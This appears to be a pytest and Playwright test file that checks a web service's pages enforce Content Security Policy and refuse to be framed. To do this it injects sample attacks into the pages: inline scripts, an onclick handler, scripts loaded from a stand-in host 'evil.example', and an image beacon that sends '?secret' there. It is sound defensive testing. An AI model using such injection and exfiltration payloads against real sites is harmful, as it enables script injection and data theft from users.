"""The pages in a real browser: they run what is theirs, and nothing that somebody put into them.

The outside network is not needed: what the pages load from CDNs is answered here. Skipped where there is no Chromium.
"""

import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, Route, sync_playwright

from app.database.client import Connection
from tests.api.w2 import add_w2
from tests.service import Service, emptied, eventually, running

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed (apt-get install chromium)")

PAGES = ["/graphql", "/docs", "/redoc"]
ELSEWHERE = "https://evil.example/"
# Stands for every library of the pages: whatever is called, made or read of it is itself again, and that is counted.
LIBRARIES = """
window.loaded = (window.loaded || 0) + 1;
window.used = window.used || 0;
window.anything = new Proxy(function () {}, {
    get: (_, name) => (name === Symbol.toPrimitive ? () => "" : window.anything),
    apply: () => (window.used++, window.anything),
    construct: () => (window.used++, window.anything),
});
for (const name of ["React", "ReactDOM", "Cookies", "GraphiQL", "GraphiQLPluginExplorer", "SwaggerUIBundle"])
    window[name] = window.anything;
"""
FRAME = "<body><iframe id=us src='{url}'></iframe>"


@dataclass
class Seen:
    """A page, and what the browser says of it."""

    page: Page
    refused: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    def hear(self, message: ConsoleMessage) -> None:
        """Keep what the policy of a page did not allow."""
        if "Content Security Policy" in message.text or "frame-ancestors" in message.text:
            self.refused.append(message.text)

    def answer(self, route: Route) -> None:
        """Be the outside network: CDNs with libraries, and pages of somebody else."""
        asked = route.request
        self.asked.append(asked.url)
        kinds = {"script": ("text/javascript", LIBRARIES), "stylesheet": ("text/css", "")}
        content_type, body = kinds.get(asked.resource_type, ("text/html", "<title>elsewhere</title>"))
        headers = {"Access-Control-Allow-Origin": "*"}
        route.fulfill(content_type=content_type, body=body, headers=headers)


@pytest.fixture(scope="module")
def service(connection: Connection) -> Iterator[Service]:
    with running(emptied(connection)) as opened:
        add_w2(opened.client())
        yield opened


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        # Root, which CI is, may run it only without its own sandbox.
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield chromium
        chromium.close()


@pytest.fixture
def seen(browser: Browser, service: Service) -> Iterator[Seen]:
    context = browser.new_context()
    seen = Seen(context.new_page())
    seen.page.on("console", seen.hear)
    seen.page.on("pageerror", lambda error: seen.errors.append(str(error)))
    context.route(lambda url: not url.startswith(service.url), seen.answer)
    # The browser would hold our libraries against the hashes of the real ones.
    context.route(f"{service.url}/graphql", without_hashes)
    yield seen
    context.close()


def without_hashes(route: Route) -> None:
    """The page as it is, but for the hashes of its libraries: neither its inline script nor its headers change."""
    if route.request.resource_type != "document":
        route.fallback()
        return
    found = route.fetch()
    route.fulfill(response=found, body=found.text().replace("integrity=", "data-integrity="))


@pytest.mark.parametrize("path", PAGES)
def test_a_page_runs_its_own_script_and_its_libraries(service: Service, seen: Seen, path: str) -> None:
    seen.page.goto(service.url + path, wait_until="networkidle")

    assert (seen.refused, seen.errors) == ([], [])
    assert seen.page.evaluate("window.loaded") == seen.page.locator("script[src]").count()
    # Redoc has no script of its own.
    assert (seen.page.evaluate("window.used") > 0) == (path != "/redoc")


@pytest.mark.parametrize("path", PAGES)
@pytest.mark.parametrize(
    "attack",
    {
        "an inline script": "const one = document.createElement('script'); one.textContent = 'window.evil = 1'; "
        "document.body.append(one)",
        "an inline handler": "document.body.setAttribute('onclick', 'window.evil = 1'); document.body.click()",
        "a script from elsewhere": f"const one = document.createElement('script'); one.src = '{ELSEWHERE}'; "
        "document.body.append(one)",
        "another library of the same CDN": "const one = document.createElement('script'); "
        "one.src = 'https://unpkg.com/evil@1.0.0/index.js'; document.body.append(one)",
        "a request to elsewhere": f"fetch('{ELSEWHERE}').catch(() => null)",
        "an image that tells": f"new Image().src = '{ELSEWHERE}?secret'",
        "a form to elsewhere": f"const one = document.createElement('form'); one.action = '{ELSEWHERE}'; "
        "one.method = 'post'; document.body.append(one); one.submit()",
        "a frame of elsewhere": f"const one = document.createElement('iframe'); one.src = '{ELSEWHERE}'; "
        "document.body.append(one)",
        "another base": f"const one = document.createElement('base'); one.href = '{ELSEWHERE}'; "
        "document.head.append(one)",
    }.items(),
    ids=lambda attack: attack[0],
)
def test_what_somebody_put_into_a_page_is_refused(
    service: Service, seen: Seen, path: str, attack: tuple[str, str]
) -> None:
    seen.page.goto(service.url + path, wait_until="networkidle")

    seen.page.evaluate(f"() => {{ {attack[1]} }}")

    eventually(lambda: seen.page.evaluate("window.evil") or bool(seen.refused), True)
    assert seen.page.evaluate("window.evil") is None
    assert [address for address in seen.asked if "evil" in address] == []
    assert seen.page.url == service.url + path


@pytest.mark.parametrize("path", [*PAGES, "/continuity/s1/report", "/health/live"])
def test_no_page_of_another_site_can_frame_us(service: Service, seen: Seen, path: str) -> None:
    seen.page.goto(ELSEWHERE)
    seen.page.set_content(FRAME.format(url=service.url + path), wait_until="networkidle")

    (frame,) = [one for one in seen.page.frames if one.parent_frame]
    assert frame.url == "chrome-error://chromewebdata/"


def test_a_report_is_drawn_and_printed_and_runs_nothing(service: Service, seen: Seen) -> None:
    seen.page.goto(f"{service.url}/continuity/s1/report", wait_until="networkidle")

    assert (seen.refused, seen.errors, seen.asked) == ([], [], [])
    drawing = seen.page.locator("svg").bounding_box()
    assert drawing is not None
    assert drawing["width"] > 300
    assert seen.page.pdf().startswith(b"%PDF-")
